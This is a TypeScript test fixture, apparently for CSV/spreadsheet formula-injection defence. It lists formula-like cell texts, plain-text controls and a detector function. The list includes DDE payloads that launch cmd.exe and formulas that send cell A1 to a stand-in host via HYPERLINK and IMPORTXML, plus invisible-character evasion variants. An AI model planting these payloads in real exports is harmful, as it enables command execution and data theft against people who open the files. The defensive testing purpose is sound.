// Texts that a spreadsheet would calculate, execute or split, as anyone could type them into a remark.
export const FORMULA_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1;"Klick")',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '=WEBSERVICE("http://x.example")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=DDE("cmd";"/C calc";"x")',
  '+1',
  '+49 351 1234',
  '-1',
  '- Punkt',
  '@x',
  ' =1+1',
  '\u00a0=1+1',
  '\u2007=1+1',
  '\u202f+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\u200d\u2060=1+1',
  '\ufeff=1+1',
  '\u00ad=1+1',
  '\u180e=1+1',
  '\u202e=1+1',
  '\u2066=1+1',
  '\u3164=1+1',
  '\u2800=1+1',
  '\u0000=1+1',
  '\u001f=1+1',
  '\u0085=1+1',
  '\ud800=1+1',
  '\ufffe=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n =1+1',
  '\tTabulator',
  '\nZeile',
  ' \r x',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '﹦1+1',
  '﹢1',
  '⁼1+1',
  '₋1',
  '−1',
  '"=1+1"',
  '";=1+1;"',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a\n=1+1',
  'a\r=1+1',
  'a","=1+1","',
  'a";"=1+1',
  "a;\u00a0'=1+1",
  "'=1+1",
  "''-1",
  '=1+1'.repeat(3000),
]

/** Texts that every spreadsheet treats as plain text. */
export const PLAIN_TEXTS: readonly string[] = [
  'Forsthof',
  'a=b',
  '1-2',
  'name@example.org',
  'Müller & Söhne',
  "Meier's Hof",
  "'s Wäldchen",
  '– keine –',
  '1.234,50',
  'Weg 5, Hinterhaus',
  'eins; zwei',
  '"Zum Hirsch"',
  'erste Zeile\nzweite Zeile',
  '01067',
  '',
]

/** Invisible at the start of a cell. */
const UNSEEN = new RegExp(
  String.raw`^["\s\u0000-\u0020\u007f-\u00a0\u00ad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f` +
    String.raw`\u2028-\u202f\u205f-\u206f\u2800\u3000\u3164\ud800-\udfff\ufeff\uffa0\ufffe\uffff]+`,
  'u',
)

/**
 * Whether a cell, as a program reads it, starts with anything that could be a formula. Deliberately
 * independent of the rule that prevents it.
 */
export function beginsLikeFormula(cell: string): boolean {
  const seen = cell.replace(UNSEEN, '')
  return (
    '=+-@'.includes(seen.normalize('NFKC').replaceAll('\u2212', '-').charAt(0) || 'x') ||
    /^[\t\r\n]/.test(cell)
  )
}
